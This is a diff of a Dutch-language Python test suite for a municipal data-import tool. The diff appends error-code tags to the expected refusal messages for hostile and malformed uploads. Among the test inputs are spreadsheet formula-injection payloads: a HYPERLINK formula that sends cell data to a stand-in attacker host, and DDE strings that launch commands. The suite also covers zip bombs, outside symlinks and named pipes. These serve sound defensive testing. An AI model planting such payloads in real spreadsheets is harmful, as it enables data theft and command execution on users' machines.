@@ -48,12 +48,12 @@ def refused(region: Region, path: Path, problems: list[str]) -> None:
 def test_formula_cells_are_plain_text_and_refused_where_a_value_is_expected(region: Region):
     known = "bekend zijn: Beuningen, Druten, Groesbeek, Heumen, Millingen aan de Rijn, Mook en Middelaar, Nijmegen, Ubbergen, Wijchen"
     refused(region, CASES / "formule-injectie.csv", [
-        f"formule-injectie.csv:2: gemeente: onbekende gemeente '=HYPERLINK(\"http://aanvaller.example/?d=\"&A1,\"Klik hier\")'; {known}",
-        "formule-injectie.csv:3: indicator: onbekende indicator '@SUM(1+1)*cmd|' /C calc'!A0'; gebruik een id uit content/indicatoren.yaml, zoals 'uitstroom-werk'",
-        "formule-injectie.csv:4: waarde: verwacht een getal zoals 42 of 71,4, gevonden '+cmd|' /C calc'!A0'",
-        "formule-injectie.csv:5: periode: verwacht een jaar zoals '2016', gevonden '=1+1'",
-        "formule-injectie.csv:6: waarde: verwacht een getal zoals 42 of 71,4, gevonden '-2+3'",
-        "formule-injectie.csv:7: waarde: verwacht een getal van hoogstens 15 cijfers, gevonden 40 tekens",
+        f"formule-injectie.csv:2: gemeente: onbekende gemeente '=HYPERLINK(\"http://aanvaller.example/?d=\"&A1,\"Klik hier\")'; {known} [verwijzing-onbekend]",
+        "formule-injectie.csv:3: indicator: onbekende indicator '@SUM(1+1)*cmd|' /C calc'!A0'; gebruik een id uit content/indicatoren.yaml, zoals 'uitstroom-werk' [verwijzing-onbekend]",
+        "formule-injectie.csv:4: waarde: verwacht een getal zoals 42 of 71,4, gevonden '+cmd|' /C calc'!A0' [getal-ongeldig]",
+        "formule-injectie.csv:5: periode: verwacht een jaar zoals '2016', gevonden '=1+1' [periode-ongeldig]",
+        "formule-injectie.csv:6: waarde: verwacht een getal zoals 42 of 71,4, gevonden '-2+3' [getal-ongeldig]",
+        "formule-injectie.csv:7: waarde: verwacht een getal van hoogstens 15 cijfers, gevonden 40 tekens [waarde-buiten-bereik]",
     ])
 
 
@@ -87,7 +87,7 @@ def test_an_excel_formula_is_stored_as_its_plain_value_never_as_a_formula(region
 def test_an_excel_formula_without_a_calculated_value_is_an_empty_cell(region: Region):
     path = region.path("export.xlsx")
     _xlsx_with_formula(path, 'HYPERLINK("http://aanvaller.example","x")', None)
-    refused(region, path, ["export.xlsx:2: waarde: leeg; verwacht een getal"])
+    refused(region, path, ["export.xlsx:2: waarde: leeg; verwacht een getal [cel-leeg]"])
 
 
 def test_open_data_csv_never_holds_a_cell_a_spreadsheet_would_execute():
@@ -123,7 +123,7 @@ def test_dutch_excel_csv_in_windows_1252_is_read_and_the_encoding_named(region: 
 
 def test_latin_1_text_is_decoded_right_in_the_message(region: Region):
     known = "bekend zijn: Beuningen, Druten, Groesbeek, Heumen, Millingen aan de Rijn, Mook en Middelaar, Nijmegen, Ubbergen, Wijchen"
-    refused(region, CASES / "latin-1.csv", [f"latin-1.csv:2: gemeente: onbekende gemeente 'Drüten'; {known}; bedoelt u 'Druten'?"])
+    refused(region, CASES / "latin-1.csv", [f"latin-1.csv:2: gemeente: onbekende gemeente 'Drüten'; {known}; bedoelt u 'Druten'? [verwijzing-onbekend]"])
 
 
 def test_utf8_with_byte_order_mark_and_crlf_is_read(region: Region):
@@ -132,9 +132,9 @@ def test_utf8_with_byte_order_mark_and_crlf_is_read(region: Region):
 
 
 @pytest.mark.parametrize("name, problem", [
-    ("onleesbaar.csv", "onleesbaar.csv:2: de tekst is geen UTF-8 en geen Windows-1252 (byte 0x81); sla het bestand op als 'CSV UTF-8'"),
-    ("utf16.csv", "utf16.csv: het bestand is UTF-16 (Excel: 'Unicode-tekst'); sla het op als 'CSV UTF-8' of 'CSV (gescheiden door lijstscheidingsteken)'"),
-    ("hernoemd.xlsx", "hernoemd.xlsx: is geen Excel-bestand: een .xlsx-bestand is een zip-archief en dit bestand is dat niet (een hernoemd CSV- of tekstbestand?)"),
+    ("onleesbaar.csv", "onleesbaar.csv:2: de tekst is geen UTF-8 en geen Windows-1252 (byte 0x81); sla het bestand op als 'CSV UTF-8' [tekenset-ongeldig]"),
+    ("utf16.csv", "utf16.csv: het bestand is UTF-16 (Excel: 'Unicode-tekst'); sla het op als 'CSV UTF-8' of 'CSV (gescheiden door lijstscheidingsteken)' [tekenset-ongeldig]"),
+    ("hernoemd.xlsx", "hernoemd.xlsx: is geen Excel-bestand: een .xlsx-bestand is een zip-archief en dit bestand is dat niet (een hernoemd CSV- of tekstbestand?) [export-onleesbaar]"),
 ])
 def test_unreadable_exports_are_refused_by_name(region: Region, name: str, problem: str):
     refused(region, CASES / name, [problem])
@@ -152,7 +152,7 @@ def test_a_zip_bomb_is_refused_before_it_is_inflated(region: Region):
     assert path.stat().st_size < 2 * 2**20
     refused(region, path, [
         "bom.xlsx: uitgepakt zou dit Excel-bestand 268.435.464 bytes in 2 delen zijn (hoogstens 209.715.200); "
-        "het wordt niet geopend (een zip-bom?)"
+        "het wordt niet geopend (een zip-bom?) [bestand-te-groot]"
     ])
 
 
@@ -162,7 +162,7 @@ TOO_MANY = "meer dan 100.000 rijen met gegevens; dat is geen export van realisat
 def test_a_million_row_csv_is_refused(region: Region):
     path = region.path("miljoen.csv")
     path.write_bytes(b"gemeente,indicator,periode,waarde\n" + b"Wijchen,uitstroom-werk,2017,1\n" * 1_000_000)
-    refused(region, path, [f"miljoen.csv: {TOO_MANY}"])
+    refused(region, path, [f"miljoen.csv: {TOO_MANY} [te-veel-rijen]"])
 
 
 def test_a_million_row_sheet_is_refused_without_reading_it(region: Region):
@@ -179,13 +179,13 @@ def test_a_million_row_sheet_is_refused_without_reading_it(region: Region):
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
         for name, data in members.items():
             z.writestr(name, data)
-    refused(region, path, [f"miljoen.xlsx: {TOO_MANY}"])
+    refused(region, path, [f"miljoen.xlsx: {TOO_MANY} [te-veel-rijen]"])
 
 
 def test_read_only_gemeente_file_is_refused_and_nothing_is_written(region: Region):
     region.path(W).chmod(0o444)
     refused(region, CASES / "windows-1252.csv", [
-        "gemeenten/wijchen.yaml: het bestand is alleen-lezen; maak het schrijfbaar om realisaties in te lezen",
+        "gemeenten/wijchen.yaml: het bestand is alleen-lezen; maak het schrijfbaar om realisaties in te lezen [bestand-alleen-lezen]",
     ])
     assert region.path(W).stat().st_mode & 0o777 == 0o444
 
@@ -197,7 +197,7 @@ def test_export_linked_to_a_file_outside_the_repository_is_refused(region: Regio
     link.symlink_to(secret)
     refused(region, link, [
         f"export.csv: is een symbolische koppeling naar '{secret.resolve()}', buiten de regio-repository; "
-        "geef het bestand zelf op in plaats van een koppeling ernaar"
+        "geef het bestand zelf op in plaats van een koppeling ernaar [bestand-buiten-repository]"
     ])
 
 
@@ -211,7 +211,7 @@ def test_named_pipe_as_export_is_refused_without_hanging(region: Region):
     )
     assert proc.returncode == 1
     assert proc.stderr.splitlines() == [
-        "export.csv: is geen gewoon bestand (maar bijvoorbeeld een named pipe of apparaat)",
+        "export.csv: is geen gewoon bestand (maar bijvoorbeeld een named pipe of apparaat) [bestand-ongeschikt]",
         f"1 probleem gevonden; {NIETS}",
     ]
     assert _hashes(region) == before
